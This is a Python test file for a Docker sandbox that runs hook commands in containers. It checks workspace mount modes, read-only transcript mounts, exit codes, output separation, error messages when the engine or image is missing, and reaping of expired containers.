def test_23_large_or_missing_stdin_is_handled(
    sandbox: DockerSandbox, workspace: Path, stdin: bytes, command: str, expected: bytes
) -> None:
    result, elapsed = timed_run(sandbox, workspace, command, stdin=stdin, timeout=20)
    # A stuck writer runs into the 20 s timeout; a cold run on a loaded machine (CI's, Podman) took 5.3 s.
    assert elapsed < 15
    assert result.exit_code == 0 and not result.timed_out
    assert result.stdout == expected


# --------------------------------------------------------------------------
# The profile's knobs
# --------------------------------------------------------------------------


def test_workspace_read_only_by_default_is_readable(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    result = run(sandbox, workspace, 'cat "$CLAUDE_PROJECT_DIR/README.md"; pwd')
    assert result.exit_code == 0
    assert lines(result.stdout) == ["hello from the workspace", str(workspace)]


def test_workspace_rw_lets_the_hook_write(sandbox: DockerSandbox, workspace: Path) -> None:
    workspace.chmod(0o777)  # the container user (nobody, as we run as root) must own or reach it
    result = run(
        sandbox,
        workspace,
        'echo formatted > "$CLAUDE_PROJECT_DIR/out.txt"',
        options=SandboxOptions(workspace="rw"),
    )
    assert result.exit_code == 0, result.stderr
    assert (workspace / "out.txt").read_text() == "formatted\n"


def test_workspace_none_mounts_nothing(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        'test -e "$CLAUDE_PROJECT_DIR" && echo visible; pwd',
        options=SandboxOptions(workspace="none"),
    )
    assert result.exit_code == 0
    assert result.stdout == b"/tmp\n"


def test_extra_mount_is_read_only_inside_a_writable_workspace(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    workspace.chmod(0o777)
    (workspace / "src").chmod(0o777)
    result = run(
        sandbox,
        workspace,
        'echo a > "$CLAUDE_PROJECT_DIR/ok"; echo "top=$?"; '
        'echo b > "$CLAUDE_PROJECT_DIR/src/no"; echo "src=$?"; cat src/main.py',
        options=SandboxOptions(workspace="rw", mounts=(str(workspace / "src"),)),
    )
    assert lines(result.stdout) == ["top=0", "src=2", "print('hi')"]
    assert (workspace / "ok").exists() and not (workspace / "src" / "no").exists()


def test_cwd_inside_the_workspace_is_honoured(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(sandbox, workspace, "pwd; ls", cwd=workspace / "src")
    assert lines(result.stdout) == [str(workspace / "src"), "main.py"]


def test_transcript_is_mounted_read_only(
    sandbox: DockerSandbox, workspace: Path, tmp_path: Path
) -> None:
    transcript = tmp_path / "transcripts" / "session.jsonl"
    transcript.parent.mkdir(mode=0o755)
    transcript.write_text('{"type": "user"}\n')
    transcript.chmod(0o666)  # even a world-writable file stays read-only inside
    result = run(
        sandbox,
        workspace,
        f'cat {transcript}; echo forged >> {transcript}; echo "append=$?"',
        transcript_path=str(transcript),
    )
    assert lines(result.stdout) == ['{"type": "user"}', "append=2"]
    assert transcript.read_text() == '{"type": "user"}\n'


@pytest.mark.parametrize("code", [0, 2, 7])
def test_exit_codes_come_back(sandbox: DockerSandbox, workspace: Path, code: int) -> None:
    result = run(sandbox, workspace, f"exit {code}")
    assert result.exit_code == code
    assert not result.timed_out and not result.oom_killed


def test_stdout_and_stderr_stay_separate(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        "echo out1; echo err1 >&2; echo out2; echo err2 >&2; cat >/dev/null",
        stdin=b"{}",
    )
    assert (result.stdout, result.stderr) == (b"out1\nout2\n", b"err1\nerr2\n")
    assert not result.truncated


def test_parallel_runs_share_one_client(sandbox: DockerSandbox, workspace: Path) -> None:
    results: dict[int, RunResult] = {}

    def hook(i: int) -> None:
        # On a pool of 2, some of the 4 go cold: both paths at once.
        results[i] = run(sandbox, workspace, f"cat; echo {i}", stdin=f"in{i} ".encode(), warm=False)

    threads = [threading.Thread(target=hook, args=(i,)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert {i: r.stdout for i, r in results.items()} == {
        i: f"in{i} {i}\n".encode() for i in range(4)
    }


# --------------------------------------------------------------------------
# Engine trouble
# --------------------------------------------------------------------------


def test_unreachable_engine_is_one_clear_line(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent.sock")
    with DockerSandbox() as backend, pytest.raises(SandboxUnavailable) as caught:
        run(backend, workspace, "true")
    message = str(caught.value)
    assert message == (
        "cannot reach the Docker engine at unix:///nonexistent.sock: start Docker, or set DOCKER_HOST"
    )
    assert caught.value.__cause__ is not None


def test_missing_image_says_how_to_build_it(docker_api: Any, workspace: Path) -> None:
    backend = DockerSandbox(client=docker_api, image="hookcage/runner:0.0.0-missing")
    with backend, pytest.raises(SandboxUnavailable) as caught:
        run(backend, workspace, "true")
    assert str(caught.value) == (
        "image hookcage/runner:0.0.0-missing is missing: run `hookcage image build`"
    )
    # Nothing of this process's was created (other sessions may run containers meanwhile).
    mine = orphans.owner_value()
    assert [c["Id"] for c in managed_containers(docker_api) if (c.get("Labels") or {}).get(orphans.OWNER_LABEL) == mine] == []


def test_missing_runtime_is_unavailable(
    docker_api: Any, runner_image: str, workspace: Path
) -> None:
    backend = DockerSandbox(client=docker_api, image=runner_image, runtime="no-such-runtime")
    with backend, pytest.raises(SandboxUnavailable, match="no runtime 'no-such-runtime'"):
        run(backend, workspace, "true")


def test_engine_info_describes_the_engine(docker_api: Any) -> None:
    info = engine_info(docker_api)
    assert info["version"] and info["api_version"]
    assert "runc" in info["runtimes"]
    assert info["cgroup_version"] in ("1", "2")
    assert info["memory_limit"] and info["pids_limit"]


# --------------------------------------------------------------------------
# Reaping
# --------------------------------------------------------------------------


def make_container(docker_api: Any, image: str, command: str, expires: float | None) -> str:
    labels = {**LABELS, MANAGED_LABEL: "true"}
    if expires is not None:
        labels[EXPIRES_LABEL] = str(int(expires))
    created = docker_api.create_container(
        image,
        ["/bin/sh", "-c", command],
        labels=labels,
        network_disabled=True,
        host_config=docker_api.create_host_config(init=True, network_mode="none"),
    )
    docker_api.start(created["Id"])
    return str(created["Id"])


@pytest.mark.alone  # its expired containers are any session's to reap (hookcage gc, a session's start)
def test_reap_removes_runs_that_are_over_and_keeps_live_ones(
    docker_api: Any, runner_image: str
) -> None:
    now = time.time()
    exited_old = make_container(docker_api, runner_image, "true", now - 60)
    exited_unlabelled = make_container(docker_api, runner_image, "true", None)
    exited_in_flight = make_container(docker_api, runner_image, "true", now + 600)
    make_container(docker_api, runner_image, "sleep 60", now - 1)  # running, expired
    running_live = make_container(docker_api, runner_image, "sleep 60", now + 600)
    for container in (exited_old, exited_unlabelled, exited_in_flight):
        docker_api.wait(container, timeout=10)
    try:
        assert reap(docker_api, include_running_expired=False, labels=SESSION_LABELS) == 1  # exited_old
        assert reap(docker_api, labels=SESSION_LABELS) == 1  # running_expired
        left = {c["Id"] for c in session_containers(docker_api)}
        # In flight (expiry ahead), or without expiry and stopped under a minute ago.
        assert left >= {exited_in_flight, exited_unlabelled, running_live}
        assert exited_old not in left
        assert reap(docker_api, now=now + 601, labels=SESSION_LABELS) >= 3
        left = {c["Id"] for c in session_containers(docker_api)}
        assert not left & {exited_in_flight, exited_unlabelled, running_live}
        live = make_container(docker_api, runner_image, "sleep 60", now + 600)
        reap(docker_api, labels=SESSION_LABELS)
        assert live in {c["Id"] for c in session_containers(docker_api)}
        assert reap(docker_api, everything=True, labels=SESSION_LABELS) >= 1  # hookcage gc --all, on our own
        assert live not in {c["Id"] for c in session_containers(docker_api)}
    finally:
        for container in (exited_in_flight, exited_unlabelled, running_live):
            with contextlib.suppress(docker.errors.NotFound):
                docker_api.remove_container(container, force=True)
